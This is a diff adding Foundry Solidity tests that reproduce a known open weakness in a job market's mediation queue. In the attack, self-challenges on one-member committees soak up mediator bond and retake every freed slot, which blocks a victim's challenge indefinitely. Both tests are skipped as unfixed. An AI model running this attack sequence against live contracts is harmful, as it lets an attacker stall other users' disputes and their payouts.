@@ -142,6 +142,110 @@ contract QueueAttacksTest is PondUnitBase {
         vm.assertGe(_total(creator), creatorBefore, "the creator lost on its provider's wrong result");
     }
 
+    // ------------------------------------------------------------------ finding 2
+
+    /// @dev Holds `who`'s whole bond with `slots` self-challenged jobs of a committee where it
+    ///      sits alone (it consented to it), as MediationAttacks does.
+    function _saturateAlone(address attacker, address who, uint256 slots)
+        internal
+        returns (uint32 single, uint256 offerId, uint256 first)
+    {
+        single = _committee(who);
+        offerId = _freeOffer(attacker, single);
+        for (uint256 k; k < slots; ++k) {
+            uint256 id = _selfChallenge(attacker, single, offerId);
+            if (k == 0) first = id;
+        }
+    }
+
+    function _endHeld(uint256 jobId, address member) internal {
+        _commit(jobId, member, Vote.ProviderRight);
+        _reveal(jobId, member, Vote.ProviderRight);
+        market.resolveChallenge(jobId, _terms(jobId), _result(jobId));
+    }
+
+    /// @notice README: "From the moment a challenge waits, each of its members keeps a slash of
+    ///         bond for it: a new mediation of any committee takes that member only with a slash
+    ///         free beyond those, so an attacker that frees a member cannot take the slot back
+    ///         with its next mediation" (test_attack_saturationThroughOtherCommitteesCannotRetake-
+    ///         AFreedSlot). The kept slash is ignored by the HEAD of any queue (`_eligible(.., true)`
+    ///         checks `active + 1` only): the attacker's next challenge on its one-member committee
+    ///         waits, and the attacker's own `openQueued` opens it at once in the freed slot. The
+    ///         victim's challenge, queued first, cannot open: the attacker retakes every freed slot
+    ///         (one extra call each) and the victim's verdict waits as long as it keeps doing so.
+    function test_attack_openQueuedOfAnotherCommitteeRetakesTheSlotKeptForTheVictim() public {
+        // Open (README, Known open weaknesses): fails on the current contracts.
+        vm.skip(true, "open weakness: a queue's head ignores the slash kept for another committee's waiting challenge");
+        address attacker = stranger;
+        _deposit(attacker, DEPOSIT);
+        uint256 victimJob = _postDefaultJob();
+        _match(victimJob, _freeOffer(attacker));
+        vm.prank(attacker);
+        market.submitResult(victimJob, WRONG_CID);
+
+        uint256 slots = MIN_BOND / SLASH;
+        uint32[3] memory alone;
+        uint256[3] memory offers;
+        uint256[3] memory firsts;
+        for (uint256 i; i < 3; ++i) {
+            (alone[i], offers[i], firsts[i]) = _saturateAlone(attacker, mediatorSet[i], slots);
+        }
+        vm.prank(creator);
+        market.challenge{value: COMMITTEE_FEE}(victimJob, _terms(victimJob), _result(victimJob));
+        assertFalse(mediation.getMediation(victimJob).open);
+
+        for (uint256 i; i < 3; ++i) {
+            _endHeld(firsts[i], mediatorSet[i]);
+            uint256 again = _selfChallenge(attacker, alone[i], offers[i]);
+            assertFalse(mediation.getMediation(again).open); // it waits, as the README says...
+            mediation.openQueued(alone[i]); // ...until the attacker opens it itself
+            vm.assertFalse(mediation.getMediation(again).open, "the attacker took the slot kept for the victim");
+        }
+        mediation.openQueued(_defaultCommittee());
+        assertTrue(mediation.getMediation(victimJob).open);
+    }
+
+    /// @notice The same without any call of its own at the freeing moment: the attacker queues
+    ///         spare self-challenges on its one-member committees AFTER the victim's challenge
+    ///         waits. Every close of a held mediation (by anyone, the victim included) opens the
+    ///         attacker's next queued one in the same transaction (`closeMediation` opens the
+    ///         closed mediation's committee's head, which ignores the slash kept for the victim),
+    ///         so the victim can never open its mediation even by resolving the held ones itself.
+    function test_attack_spareQueuedChallengesRetakeEveryFreedSlotAtTheClose() public {
+        // Open (README, Known open weaknesses): fails on the current contracts.
+        vm.skip(true, "open weakness: a queue's head ignores the slash kept for another committee's waiting challenge");
+        address attacker = stranger;
+        _deposit(attacker, DEPOSIT);
+        uint256 victimJob = _postDefaultJob();
+        _match(victimJob, _freeOffer(attacker));
+        vm.prank(attacker);
+        market.submitResult(victimJob, WRONG_CID);
+
+        uint256 slots = MIN_BOND / SLASH;
+        uint32[3] memory alone;
+        uint256[3] memory offers;
+        uint256[3] memory firsts;
+        for (uint256 i; i < 3; ++i) {
+            (alone[i], offers[i], firsts[i]) = _saturateAlone(attacker, mediatorSet[i], slots);
+        }
+        vm.prank(creator);
+        market.challenge{value: COMMITTEE_FEE}(victimJob, _terms(victimJob), _result(victimJob));
+        // Queued after the victim's: one spare on each member.
+        uint256[3] memory spare;
+        for (uint256 i; i < 3; ++i) {
+            spare[i] = _selfChallenge(attacker, alone[i], offers[i]);
+            assertFalse(mediation.getMediation(spare[i]).open);
+        }
+        // The victim (or its keeper) ends a held mediation on each member.
+        for (uint256 i; i < 3; ++i) {
+            _endHeld(firsts[i], mediatorSet[i]);
+        }
+        try mediation.openQueued(_defaultCommittee()) {} catch {}
+        vm.assertTrue(
+            mediation.getMediation(victimJob).open, "challenges queued after the victim's took the slots freed for it"
+        );
+    }
+
     // ------------------------------------------------------------------ finding 3
 
     event log_named_uint(string key, uint256 val);
